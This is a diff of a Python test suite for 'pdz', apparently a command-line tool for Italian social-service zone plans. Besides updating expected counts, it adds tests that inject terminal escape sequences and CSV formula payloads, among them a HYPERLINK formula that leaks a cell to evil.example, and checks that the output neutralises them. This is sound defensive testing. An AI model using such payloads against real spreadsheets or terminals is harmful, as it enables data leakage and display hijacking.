@@ -21,6 +21,7 @@ import pty
 import re
 import subprocess
 import sys
+import tempfile
 import unittest
 
 PDZ = os.environ.get('PDZ_BIN', 'pdz')
@@ -229,7 +230,7 @@ class Validate(unittest.TestCase):
         self.assertIn('error', missing)
         self.assertEqual(missing['diagnostics'], [])
         self.assertEqual((report['errors'], report['warnings'], report['infos'], report['unreadable']),
-                         (0, 9, 25, 1))
+                         (0, 9, 24, 1))
         first = example['diagnostics'][0]
         self.assertEqual(set(first), {'pointer', 'severity', 'code', 'message'})
         self.assertEqual(first['pointer'], '/objectives/8/actions/5')
@@ -239,13 +240,13 @@ class Validate(unittest.TestCase):
 
     def test_example(self):
         # Reviewed by hand: 9 warnings (an action of 2024, the eight ASST
-        # objectives with nothing reported), 25 infos (projects without a
-        # lead or a funding), no error.
+        # objectives with nothing reported), 24 infos (15 projects without a
+        # lead, 9 without a funding), no error.
         status, out, err = pdz('validate', EXAMPLE)
         self.assertEqual(status, 0)
         self.assertEqual(err, '')
         lines = out.splitlines()
-        self.assertEqual(len(lines), 34)
+        self.assertEqual(len(lines), 33)
         self.assertFalse([line for line in lines if 'error[' in line])
         self.assertEqual(len([line for line in lines if 'warning[' in line]), 9)
         status, _, _ = pdz('validate', '--strict', EXAMPLE)
@@ -260,7 +261,7 @@ class Summary(unittest.TestCase):
         self.assertTrue(out.startswith('Piano di Zona 2021-2023\n'))
         self.assertIn('Ambito del Corsichese', out)
         self.assertIn('March 2022 – October 2023', out)
-        self.assertIn('19 objectives · 65 actions · 16 projects', out)
+        self.assertIn('19 objectives · 67 actions · 16 projects', out)
         abitative = [line for line in out.splitlines() if line.startswith('Politiche abitative')]
         self.assertEqual(len(abitative), 1)
         # objectives, actions, planned, in progress, completed, suspended, cancelled
@@ -271,6 +272,7 @@ class Summary(unittest.TestCase):
         self.assertIn('Funding per source', out)
         self.assertRegex(out, r'\nPNRR +4 +— +4\n')
         self.assertRegex(out, r'planned +65 ')
+        self.assertRegex(out, r'extra +2 ')
         self.assertNotIn(ESC, out)
 
     def test_ascii_locale(self):
@@ -279,7 +281,7 @@ class Summary(unittest.TestCase):
         self.assertTrue(is_ascii(out), [c for c in out if ord(c) >= 128][:5])
         self.assertIn('#######...  70%', out)
         self.assertIn('Citta Metropolitana di Milano', out)
-        self.assertIn('19 objectives - 65 actions', out)
+        self.assertIn('19 objectives - 67 actions', out)
 
     def test_ascii_option(self):
         status, out, _ = pdz('summary', '--ascii', EXAMPLE)
@@ -310,19 +312,19 @@ class Summary(unittest.TestCase):
         self.assertEqual(summary['plan']['title'], 'Piano di Zona 2021-2023')
         self.assertEqual(summary['plan']['monitoring']['start'], '2022-03')
         self.assertEqual(summary['totals']['objectives'], 19)
-        self.assertEqual(summary['totals']['actions'], 65)
+        self.assertEqual(summary['totals']['actions'], 67)
         self.assertEqual(summary['totals']['projects'], 16)
-        self.assertEqual(summary['totals']['extra-actions'], 0)
+        self.assertEqual(summary['totals']['extra-actions'], 2)
         by_macroarea = {row['macroarea']: row for row in summary['by-macroarea']}
         self.assertEqual(len(by_macroarea), 6)
-        self.assertEqual(by_macroarea['azioni-di-sistema']['actions'], 36)
-        self.assertEqual(by_macroarea['azioni-di-sistema']['actions-completed'], 25)
+        self.assertEqual(by_macroarea['azioni-di-sistema']['actions'], 38)
+        self.assertEqual(by_macroarea['azioni-di-sistema']['actions-completed'], 26)
         self.assertEqual(summary['partners'][0]['partner'], 'ads')
         self.assertEqual(len(summary['partners']), 20)
         self.assertEqual(summary['funding-by-source'][0],
                          {'source': 'PNRR', 'fundings': 4, 'amount': 0, 'unknown-amounts': 4})
         origin = {row['origin']: row['actions'] for row in summary['by-origin']}
-        self.assertEqual(origin, {'planned': 65, 'extra': 0})
+        self.assertEqual(origin, {'planned': 65, 'extra': 2})
         self.assertEqual([row['period'] for row in summary['by-year']],
                          ['2022', '2023', 'before', 'after', 'undated'])
         # JSON is UTF-8 whatever the locale.
@@ -386,16 +388,16 @@ class Query(unittest.TestCase):
         self.assertIn({'partner': 'visconteo', 'role': 'lead'}, actions[1]['partners'])
 
     def test_criteria(self):
-        self.assertEqual(len(self.ids()), 65)
-        self.assertEqual(len(self.ids('--macroarea', 'azioni-di-sistema')), 36)
-        self.assertEqual(len(self.ids('--status', 'in-progress')), 16)
-        self.assertEqual(len(self.ids('--status', 'in-progress,completed')), 65)
-        self.assertEqual(len(self.ids('--macroarea', 'azioni-di-sistema', '--status', 'in-progress')), 11)
+        self.assertEqual(len(self.ids()), 67)
+        self.assertEqual(len(self.ids('--macroarea', 'azioni-di-sistema')), 38)
+        self.assertEqual(len(self.ids('--status', 'in-progress')), 18)
+        self.assertEqual(len(self.ids('--status', 'in-progress,completed')), 67)
+        self.assertEqual(len(self.ids('--macroarea', 'azioni-di-sistema', '--status', 'in-progress')), 12)
         self.assertEqual(self.ids('--from', '2023', '--to', '2023'),
-                         ['agenzia-abitare-2', 'emergenza-abitativa-2',
-                          'rete-coprogettazione-2', 'rete-coprogettazione-3'])
+                         ['agenzia-abitare-2', 'emergenza-abitativa-2', 'rete-coprogettazione-3',
+                          'rete-coprogettazione-4', 'rete-coprogettazione-5'])
         self.assertEqual(self.ids('--from', '2023-11', '--to', '2023-11'),
-                         ['agenzia-abitare-2', 'rete-coprogettazione-3'])
+                         ['agenzia-abitare-2', 'rete-coprogettazione-5'])
         self.assertEqual(self.ids('--from', '2023-12', '--to', '2023-12'), [])
         self.assertEqual(self.ids('--text', 'fattibilita'),
                          ['agenzia-abitare-1', 'gestione-associata-7'])
@@ -403,8 +405,9 @@ class Query(unittest.TestCase):
         self.assertEqual(len(self.ids('--role', 'signatory')), 2)
         self.assertEqual(len(self.ids('--project', 'pippi-pnrr')), 3)
         self.assertEqual(len(self.ids('--funding-source', 'Bando GAP')), 1)
-        self.assertEqual(self.ids('--extra'), [])
+        self.assertEqual(self.ids('--extra'), ['emergenza-abitativa-7', 'piano-poverta-2'])
         self.assertEqual(len(self.ids('--planned')), 65)
+        self.assertEqual(self.ids('--funding-source', 'PNRR'), ['rete-coprogettazione-8'])
 
     def test_bad_usage(self):
         for args in (('--status', 'finished'), ('--from', '2023-13'), ('--role', 'boss'),
@@ -419,6 +422,199 @@ class Query(unittest.TestCase):
         status, _, err = pdz('query', MISSING)
         self.assertEqual(status, 2)
         assert_load_error(self, err, MISSING)
+
+
+# Every C0 control but NUL (JSON \u0001 to \u001f), DEL and the C1 controls.
+CONTROLS = (''.join(chr(c) for c in range(0x01, 0x20)) + '\x7f' +
+            ''.join(chr(c) for c in range(0x80, 0xa0)))
+# What a terminal would obey: set the window title, clear the screen.
+ESCAPE = '\x1b]0;PWNED\x07\x1b[2J'
+
+
+def is_terminal_safe(text):
+    """No character a terminal would obey: C0 but TAB and newline, DEL, C1."""
+    return not [c for c in text
+                if (ord(c) < 0x20 and c not in '\t\n') or 0x7f <= ord(c) <= 0x9f]
+
+
+class ControlCharacters(unittest.TestCase):
+    """Plan text holding control characters: faithful in JSON and CSV,
+    harmless on a terminal."""
+
+    @classmethod
+    def setUpClass(cls):
+        cls.tmp = tempfile.TemporaryDirectory()
+        plan = json.loads((CHECKS / 'clean.json').read_text(encoding='utf-8'))
+        plan['title'] = 'Plan' + CONTROLS
+        plan['ambito'] = ESCAPE + 'Ambito'
+        plan['macroareas'][0]['title'] = 'Macroarea' + CONTROLS
+        plan['partners'][1]['name'] = 'Partner' + CONTROLS
+        plan['objectives'][0]['actions'][0]['title'] = 'Action' + CONTROLS
+        plan['objectives'][0]['actions'][1]['title'] = ESCAPE + 'Action two'
+        plan['projects'][0]['fundings'][0]['source'] = 'Source' + CONTROLS
+        # Quoted by the message of objective-without-actions.
+        plan['objectives'].append({'id': 'o2', 'title': 'O' + CONTROLS[:31],
+                                   'macroarea': 'm1', 'status': 'planned'})
+        cls.plan = str(pathlib.Path(cls.tmp.name) / 'controls.json')
+        with open(cls.plan, 'w', encoding='utf-8') as f:
+            json.dump(plan, f)
+        # The same, with a status no plan may have (its error quotes it).
+        plan['objectives'][0]['status'] = ESCAPE
+        cls.bad_plan = str(pathlib.Path(cls.tmp.name) / 'bad-status.json')
+        with open(cls.bad_plan, 'w', encoding='utf-8') as f:
+            json.dump(plan, f)
+
+    @classmethod
+    def tearDownClass(cls):
+        cls.tmp.cleanup()
+
+    def json_of(self, *args, statuses=(0, 1)):
+        status, out, err = pdz(*args)
+        self.assertIn(status, statuses, err)
+        # Only the newlines and spaces of pretty-printing are raw.
+        self.assertTrue(all(ord(c) >= 0x20 or c in '\n' for c in out), repr(out[:200]))
+        self.assertTrue(is_terminal_safe(out))
+        return json.loads(out)   # strict: a raw control fails
+
+    def test_json_query(self):
+        actions = self.json_of('query', self.plan, '--format', 'json')
+        self.assertEqual(actions[0]['title'], 'Action' + CONTROLS)
+        self.assertEqual(actions[1]['title'], ESCAPE + 'Action two')
+
+    def test_json_summary(self):
+        summary = self.json_of('summary', '--format', 'json', self.plan)
+        self.assertEqual(summary['plan']['title'], 'Plan' + CONTROLS)
+        self.assertEqual(summary['plan']['ambito'], ESCAPE + 'Ambito')
+        self.assertEqual(summary['by-macroarea'][0]['title'], 'Macroarea' + CONTROLS)
+        self.assertIn('Partner' + CONTROLS, [row['name'] for row in summary['partners']])
+        self.assertEqual(summary['funding-by-source'][0]['source'], 'Source' + CONTROLS)
+
+    def test_json_validate(self):
+        report = self.json_of('validate', '--format', 'json', self.plan)
+        messages = [d['message'] for d in report['files'][0]['diagnostics']]
+        self.assertTrue([m for m in messages if 'O' + CONTROLS[:31] in m], messages)
+
+    def test_text_outputs(self):
+        for lc_all, replacement in (('C.UTF-8', '\ufffd'), ('C', '?')):
+            for args in (('validate', self.plan), ('summary', self.plan),
+                         ('query', self.plan), ('query', self.plan, '--ascii')):
+                status, out, err = pdz(*args, LC_ALL=lc_all)
+                self.assertLess(status, 2, (args, err))
+                self.assertTrue(is_terminal_safe(out), (args, lc_all, repr(out)))
+                self.assertIn('?' if '--ascii' in args else replacement, out, args)
+                self.assertNotIn('\x1b', out)
+            # The tab is kept, the rest replaced one for one.
+            _, out, _ = pdz('query', self.plan, LC_ALL=lc_all)
+            expected = CONTROLS.replace('\t', '\x00')
+            expected = ''.join('\t' if c == '\x00' else replacement for c in expected)
+            self.assertIn('Action' + expected[:10], out)
+        # On a terminal, with colour, the same.
+        for args in (('validate', self.plan), ('summary', self.plan), ('query', self.plan)):
+            _, out = pdz_on_terminal(*args)
+            self.assertNotIn('PWNED\x07', out)
+            self.assertNotIn('\x1b]', out)
+            self.assertNotIn('\x1b[2J', out)
+
+    def test_error_messages(self):
+        for lc_all in ('C.UTF-8', 'C'):
+            # A plan value quoted by the library's message.
+            status, out, err = pdz('summary', self.bad_plan, LC_ALL=lc_all)
+            self.assertEqual(status, 2)
+            self.assertIn('PWNED', err)
+            self.assertTrue(is_terminal_safe(err), repr(err))
+            self.assertEqual(err.count('\n'), 1, err)
+            # Command-line values quoted by the tool's own messages.
+            for args in (('query', self.plan, '--partner', ESCAPE),
+                         ('query', self.plan, '--status', ESCAPE),
+                         ('query', self.plan, '--' + ESCAPE),
+                         ('validate', '--disable', ESCAPE, self.plan)):
+                status, out, err = pdz(*args, LC_ALL=lc_all)
+                self.assertEqual(status, 2, args)
+                self.assertIn('PWNED', err)
+                self.assertTrue(is_terminal_safe(err), (args, repr(err)))
+
+
+    def test_file_name_not_utf8(self):
+        # A file name is bytes: shown with U+FFFD, in JSON and on stderr.
+        missing = str(pathlib.Path(self.tmp.name) / 'nope\udcff.json')
+        report = self.json_of('validate', '--format', 'json', missing, self.plan, statuses=(2,))
+        self.assertEqual(report['files'][0]['file'], missing.replace('\udcff', '\ufffd'))
+        status, out, err = pdz('validate', missing)
+        self.assertEqual(status, 2)
+        self.assertIn('nope\ufffd.json', err)
+
+
+class CsvFormulas(unittest.TestCase):
+    def test_query_csv_neutralised(self):
+        status, out, _ = pdz('query', str(DATA / 'injection.json'), '--format', 'csv')
+        self.assertEqual(status, 0)
+        rows = list(csv.reader(io.StringIO(out, newline='')))
+        self.assertEqual(len(rows), 9)
+        for row in rows:
+            for cell in row:
+                self.assertFalse(cell[:1] in ('=', '+', '-', '@', '\t', '\r'), (cell, row))
+        titles = {row[0]: row[1] for row in rows[1:]}
+        # The report's rule: an apostrophe in front, nothing lost.
+        self.assertEqual(titles['act-1'], "'=HYPERLINK(\"http://evil.example/?leak=\"&A1,\"Clicca\")")
+        self.assertEqual(titles['act-3'], "'-2+3 inizia con meno")
+        self.assertEqual(titles['act-4'], "'\tinizia con una tabulazione")
+        self.assertEqual(titles['act-6'], "'@SUM(1+1) inizia con una chiocciola")
+        # Neutralised cells are quoted, like the report's.
+        self.assertIn('"\'=HYPERLINK(', out)
+
+    def test_query_csv_like_report(self):
+        """The same cell, written by pdz query and by pdz report."""
+        _, query, _ = pdz('query', str(DATA / 'injection.json'), '--format', 'csv')
+        status, report, err = pdz('report', str(DATA / 'injection.json'), '-f', 'csv',
+                                  '--table', 'actions')
+        self.assertEqual(status, 0, err)
+        for cell in ('"\'=HYPERLINK(""http://evil.example/?leak=""&A1,""Clicca"")"',
+                     '"\'-2+3 inizia con meno"', '"\'@SUM(1+1) inizia con una chiocciola"'):
+            self.assertIn(cell, query)
+            self.assertIn(cell, report)
+
+
+class Options(unittest.TestCase):
+    def test_help_mentions_report(self):
+        status, out, _ = pdz('--help')
+        self.assertEqual(status, 0)
+        summary = out.splitlines()[4]
+        self.assertIn('report', summary)
+        self.assertIn('  report', out)
+
+    def test_validate_refuses_unknown_language(self):
+        path = str(CHECKS / 'objective-without-actions.json')
+        for option in ('--lang', '--language', '-l'):
+            status, out, err = pdz('validate', option, 'de', path)
+            self.assertEqual(status, 2, option)
+            self.assertEqual(out, '')
+            self.assertTrue(err.startswith('pdz: validate: --lang: '), err)
+            self.assertIn('“de”', err)
+            self.assertIn('it, en', err)
+        # The report refuses it the same way.
+        status, _, err = pdz('report', EXAMPLE, '--lang', 'de')
+        self.assertEqual(status, 2)
+        self.assertIn('it, en', err)
+
+    def test_language_spellings(self):
+        path = str(CHECKS / 'objective-without-actions.json')
+        italian = "l'obiettivo «Objective two» non ha azioni"
+        for option in ('--lang', '--language', '-l'):
+            for language in ('it', 'it_IT', 'IT'):
+                status, out, err = pdz('validate', option, language, path)
+                self.assertEqual(status, 0, (option, language, err))
+                self.assertIn(italian, out)
+            status, out, _ = pdz('validate', option, 'en', path)
+            self.assertIn('objective “Objective two” has no actions', out)
+        # --lang is the documented name, --language an alias.
+        _, out, _ = pdz('validate', '--help')
+        self.assertIn('--lang', out)
+        self.assertNotIn('--language', out)
+        for option in ('--lang', '--language', '-l'):
+            status, out, err = pdz('report', EXAMPLE, '-f', 'md', option, 'en', '--date', '2023-11-30')
+            self.assertEqual(status, 0, (option, err))
+            status, _, err = pdz('report', EXAMPLE, '-f', 'md', option, 'de')
+            self.assertEqual(status, 2, option)
 
 
 if __name__ == '__main__':
